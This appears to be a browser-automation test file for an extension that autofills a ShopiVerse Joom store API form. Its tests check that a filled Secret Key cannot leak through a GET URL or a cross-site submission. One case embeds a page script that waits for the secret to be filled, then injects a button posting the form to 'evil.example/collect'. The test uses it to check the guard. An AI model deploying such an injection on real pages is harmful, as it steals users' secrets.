import { afterEach, describe, expect, it } from 'vitest';
import { JOOM_APPS, JOOM_STORES, type JoomStore } from '../panels/data';
import { customPages } from '../panels/routes';
import { BROWSER, type Driver, launch } from './drivers';
import { pushFromPopup, readApp, readStore } from './steps';

// Issue 16 item 3, judged again at the moment of sending: the form qualified when it was filled, but markup may
// change after (a message polled in with a submitter of its own), and a form that says no method GETs on Enter
// unless the page's own script sends it. A submission of the form holding the Secret Key we filled that would put
// it in a URL or send it off app.shopiverse.tech is stopped, and the page says why; a page that sends its form
// itself (an SPA) is left alone. The second adversarial review found both ways (attack2, finding 4 and the
// "checked only at fill time" note): they failed before this guard.

const [store] = JOOM_STORES as [JoomStore];
const [app] = JOOM_APPS as [(typeof JOOM_APPS)[0]];
const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const URL_AT = 'https://app.shopiverse.tech/tr/guard/api';

/** A Joom store's Api Tanım form whose <form> says neither action nor method, with `extra` inside it and `script` on the page. */
const page = (opts: { extra?: string; script?: string } = {}) =>
  '<!doctype html><html lang="tr"><head><meta charset="utf-8"><title>ShopiVerse</title></head><body><main>' +
  `<div>Joom(Joom) Mağazasına ait düzenleme yapmaktasınız. ('00159' kodlu mağaza)</div>` +
  '<form id="api"><div><input type="checkbox" name="status"><span>Durum</span></div>' +
  '<div><div>Secret Key</div><input name="secret" placeholder="Secret Key"></div>' +
  '<div><div>Client Id</div><input name="clientId" placeholder="Client Id"></div>' +
  '<div><div>Store Id</div><input name="storeId" placeholder="Store Id"></div>' +
  `<button type="submit">Kaydet</button>${opts.extra ?? ''}</form></main>${opts.script ? `<script>${opts.script}</script>` : ''}</body></html>`;

const CASES = [
  { name: 'a native form that says no method: Kaydet would GET ?secret=… into the address', html: page(), press: 'Kaydet', stopped: true },
  {
    name: 'a submitter polled in after the fill, sending the form to another site',
    html: page({
      // Arrives once the form holds the values, as a message polled in after the fill would.
      script:
        "const poll = setInterval(() => { if (!document.querySelector('input[name=secret]').value) return; clearInterval(poll); const b = document.createElement('button'); b.setAttribute('form', 'api'); b.setAttribute('formaction', 'https://evil.example/collect'); b.setAttribute('formmethod', 'post'); b.textContent = 'Yanıtla'; document.querySelector('main').append(b); }, 200);",
    }),
    press: 'Yanıtla',
    stopped: true,
    waitFor: 1000,
  },
  {
    name: 'an SPA that sends the form by its own script (it prevents the native submission): left alone',
    html: page({
      script: "document.getElementById('api').addEventListener('submit', (e) => { e.preventDefault(); document.body.dataset.sent = '1'; });",
    }),
    press: 'Kaydet',
    stopped: false,
  },
];

describe(`the submission of a filled form is judged again as it happens (${BROWSER})`, () => {
  let driver: Driver | undefined;
  afterEach(async () => {
    await driver?.close();
    driver = undefined;
    customPages.delete(URL_AT);
  });

  for (const one of CASES) {
    it(one.name, { timeout: 120_000 }, async () => {
      customPages.set(URL_AT, one.html);
      driver = await launch({ lang: 'tr' });
      await (await readStore(driver, store)).close();
      await (await readApp(driver, app)).close();
      const form = await driver.open(URL_AT);
      await form.waitFor(() => document.querySelector('input[name="secret"]') !== null);
      expect(await pushFromPopup(await driver.popup())).toBe('filled');
      await form.bringToFront();
      if (one.waitFor) await wait(one.waitFor);
      await form.clickText(one.press, 'button');
      await wait(1500);
      // The address never holds the secret, and no request left for another site (the routing answers evil.example).
      expect(form.url()).not.toContain(app.secret);
      expect(form.url().startsWith('https://app.shopiverse.tech/')).toBe(true);
      const note = (await form.ourUi('submit-stopped')).join('|');
      if (one.stopped) expect(note).toMatch(/durduruldu/);
      else {
        expect(note).toBe('');
        expect(await form.evaluate(() => document.body.dataset.sent)).toBe('1');
      }
    });
  }
});
